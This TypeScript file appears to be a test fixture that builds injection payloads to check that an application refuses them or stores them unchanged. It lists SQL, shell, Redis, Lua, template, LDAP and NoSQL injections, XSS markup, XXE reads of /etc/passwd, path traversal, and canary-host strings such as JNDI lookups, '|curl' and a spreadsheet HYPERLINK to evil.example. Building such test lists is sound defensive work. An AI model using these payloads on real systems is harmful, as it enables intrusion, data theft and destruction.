/**
 * Texts that mean something to a database, a shell, a template or a browser, combined from escapes
 * out of a text and what follows them. Here they must mean nothing: they are refused, or stored and
 * shown unchanged.
 */

const waysOut = ["'", '"', '`', "')", '")', "'))", "\\'", '%27', '’', "'\u0000", '*/', '\\']

const sql = [
  ' or 1=1 -- ',
  ' or 1=1#',
  ' or ``=`',
  ' and 1=0 union select 1,2,3,4,5,6 -- ',
  '; drop table account; -- ',
  '; update profile set name = (select password_hash from account limit 1) -- ',
  ' and sleep(9) -- ',
  ' and benchmark(9000000,sha2(1,512)) -- ',
  '/**/or/**/1/**/like/**/1',
  ' into outfile "/tmp/out" -- ',
  ' or exists(select 1 from information_schema.tables) -- ',
  ' procedure analyse() -- ',
  ' limit 0,1; set global general_log=1 -- ',
  '||(select load_file("/etc/passwd"))||',
]

const redis = [
  'FLUSHALL',
  'CONFIG SET dir /tmp',
  'SHUTDOWN NOSAVE',
  'DEL feed:newest',
  'SLAVEOF 127.0.0.1 6379',
].flatMap((command) => [
  `\r\n${command}\r\n`,
  `*1\r\n$${command.length}\r\n${command}\r\n`,
  `x\n${command}`,
  `${command}\n\n`,
])

const lua = ["redis.call('flushall')", 'os.execute("id")', 'while true do end', "loadstring('return 1')()"].flatMap(
  (code) => [code, `" .. ${code} .. "`, `'] = 1; ${code} --`, `]] ${code} --[[`, `end ${code} --`],
)

const filters = ['$ne', '$gt', '$where', '$regex', '$expr', '$function'].flatMap((operator) => [
  `{"${operator}":""}`,
  `{"${operator}":"sleep(9000)"}`,
  `[${operator}]=1`,
  `'; return this.${operator} == 1; var x='`,
])

const vectors = [
  'id > 0',
  'id in [1,2,3]',
  'title like "%"',
  'true',
  'json_contains(meta, 1)',
  'not (id == 0)',
].flatMap((expression) => [expression, `" or ${expression} or "`, `' || ${expression} || '`, `1) or (${expression}`])

const commands = ['id', 'sleep 9', 'cat /etc/passwd', 'touch /tmp/fanone-pwned', 'kill -9 1', 'env'].flatMap(
  (command) => [
    `; ${command}`,
    `| ${command}`,
    `&& ${command}`,
    `|| ${command} #`,
    `$(${command})`,
    `\`${command}\``,
    `\n${command}\n`,
    `-x;${command}`,
    `$\{IFS}${command}`,
  ],
)

const directories = ['*', '*)(uid=*', '*)(|(uid=*))', 'admin)(!(&(1=0', '\\2a', '*()|&!', ')(cn=))\\00', 'cn=x,dc=x']

const templates = ['7*7', 'constructor.constructor("return process")()', 'self.__init__', '__import__("os")'].flatMap(
  (code) => [
    `{{${code}}}`,
    `\${${code}}`,
    `#{${code}}`,
    `<%= ${code} %>`,
    `{%print(${code})%}`,
    `[[${code}]]`,
    `*{${code}}`,
    `@(${code})`,
    `\${{${code}}}`,
    `{php}${code}{/php}`,
  ],
)

const formats = [
  '%s',
  '%n',
  '%x',
  '%p',
  '%1$s',
  '%99999d',
  '{0}',
  '{}',
  '%(x)s',
  '$1',
  '\\1',
  '&amp;',
  '%%',
  '%0a',
].flatMap((format) => [format, format.repeat(8), `a ${format} b`])

const lines = ['Set-Cookie: hostile=1', 'Location: http://evil.example/', 'X-Injected: 1', '{"level":"fatal"}'].flatMap(
  (line) => [`\r\n${line}`, `\n${line}\n`, `%0d%0a${line}`, `\u2028${line}`, `\r${line}`, `\u560d\u560a${line}`],
)

const code = 'alert(1)'
const markup = [
  'script',
  'svg',
  'img',
  'iframe',
  'details',
  'body',
  'math',
  'video',
  'object',
  'base',
  'style',
].flatMap((element) => [
  `<${element}>${code}</${element}>`,
  `<${element} src=x onerror=${code}>`,
  `<${element}/onload=${code}>`,
  `"><${element} onfocus=${code} autofocus>`,
  `'-${code}-'<${element}`,
  `</title><${element} onmouseover=${code}>`,
  `<!--><${element} href=javascript:${code}>`,
  `&lt;${element}&gt;${code}`,
  `<${element}\u0000 onclick=${code}>`,
  `＜${element} onload=${code}＞`,
])

const links = ['javascript:', 'data:text/html,', 'vbscript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:'].map(
  (scheme) => `${scheme}<script>${code}</script>`,
)

const documents = [
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<?xml version="1.0"?><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>',
  '{"__proto__":{"tainted":true}}',
  '[]["constructor"]["constructor"]("return 1")()',
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1)',
  '+cmd|x',
  '(a+)+$',
  '!!js/function x',
  'O:8:"stdClass":0:{}',
  'rO0ABXNyABFqYXZh',
]

const paths = ['../', '..\\', '%2e%2e%2f', '..%252f', '....//', '／..／', '..%c0%af'].flatMap((up) => [
  `${up.repeat(6)}etc/passwd`,
  `${up}secrets/secrets.json`,
  `media/${up}uploads`,
  `${up}x\u0000.mp4`,
])

/** The markup among the payloads: what must never reach a browser as a document. */
export const markupPayloads: readonly string[] = [...markup, ...links]

/** @param canaryUrl a server that sees whether anything of it is fetched */
export function injectionPayloads(canaryUrl: string): string[] {
  const { host } = new URL(canaryUrl)
  const fetched = [
    canaryUrl,
    `\${jndi:ldap://${host}/x}`,
    `<img src=${canaryUrl}>`,
    `url(${canaryUrl})`,
    `http://evil@${host}/`,
    `gopher://${host}/_x`,
    `|curl ${canaryUrl}`,
    `@import "${canaryUrl}"`,
  ]
  const statements = waysOut.flatMap((out) => sql.map((statement) => `x${out}${statement}`))
  const others = [
    redis,
    lua,
    filters,
    vectors,
    commands,
    directories,
    templates,
    formats,
    lines,
    documents,
    paths,
    fetched,
  ]
  return [...new Set([...statements, ...others.flat(), ...markupPayloads])]
}
